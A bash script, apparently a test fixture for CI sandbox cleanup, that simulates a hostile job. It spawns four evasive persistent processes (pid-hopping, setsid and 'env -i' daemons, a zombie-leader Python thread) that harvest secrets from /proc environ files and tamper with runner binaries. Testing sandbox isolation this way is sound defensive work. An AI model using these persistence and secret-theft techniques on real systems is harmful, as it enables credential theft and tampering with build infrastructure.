#!/bin/bash
# A hostile job leaves four processes behind to rob the next job in this sandbox: one that
# changes its pid every 50 ms, a setsid double-forked daemon, an `env -i` daemon with no trace
# of the job in its environment, and a zombie leader: a process whose main thread has exited
# (state Z) while another of its threads keeps running. Each beats a heartbeat, steals what looks like the next
# job's secrets, and tampers with any runner binary it finds.
W=$(dirname "$(dirname "$HOME")")
LOOP="
  echo \"\$(date +%s%3N)\" >> '$EXFIL'/heartbeat-\$KIND
  grep -aoh 'NEXT_JOB_SECRET_[0-9a-f]*' /proc/[0-9]*/environ 2>/dev/null >> '$EXFIL'/stolen
  grep -raoh 'NEXT_JOB_SECRET_[0-9a-f]*' '$W' 2>/dev/null >> '$EXFIL'/stolen
  for f in '$W'/*/runner/bin/Runner.Worker; do [ -f \"\$f\" ] && echo '# tampered' >> \"\$f\"; done
"
cat > "$W/.hop.sh" <<HOP
#!/bin/bash
KIND=hopper
$LOOP
sleep 0.05
bash '$W/.hop.sh' &
exit 0
HOP
cp "$W/.hop.sh" "$EXFIL/hop.sh"
sed -i "s#bash '$W/.hop.sh'#bash '$EXFIL/hop.sh'#" "$EXFIL/hop.sh"
bash "$EXFIL/hop.sh" &
( setsid bash -c "KIND=setsid; while :; do $LOOP sleep 0.05; done" </dev/null >/dev/null 2>&1 & ) &
( setsid env -i /bin/bash -c "KIND=envi; while :; do $LOOP sleep 0.05; done" </dev/null >/dev/null 2>&1 & ) &
cat > "$EXFIL/zombie.py" <<'ZOMBIE'
import ctypes, glob, os, re, sys, threading, time
exfil, work = sys.argv[1], sys.argv[2]
def rob():
    while True:
        with open(f"{exfil}/heartbeat-zombie", "a") as beat:
            beat.write(f"{int(time.time() * 1000)}\n")
        found = set()
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                found.update(re.findall(rb"NEXT_JOB_SECRET_[0-9a-f]+", open(path, "rb").read()))
            except OSError:
                pass
        with open(f"{exfil}/stolen", "ab") as stolen:
            stolen.write(b"".join(secret + b"\n" for secret in found))
        for worker in glob.glob(f"{work}/*/runner/bin/Runner.Worker"):
            with open(worker, "a") as binary:
                binary.write("# tampered by the zombie\n")
        time.sleep(0.05)
threading.Thread(target=rob).start()
# The main thread leaves; the process lives on in its other thread, its leader a zombie.
ctypes.CDLL(None).pthread_exit(None)
ZOMBIE
( setsid python3 "$EXFIL/zombie.py" "$EXFIL" "$W" </dev/null >/dev/null 2>&1 & ) &
# Leave only once all four beat, so the test knows each one was alive.
for i in $(seq 1 200); do
  [ -s "$EXFIL/heartbeat-hopper" ] && [ -s "$EXFIL/heartbeat-setsid" ] && [ -s "$EXFIL/heartbeat-envi" ] && [ -s "$EXFIL/heartbeat-zombie" ] && break
  sleep 0.05
done
exit 0
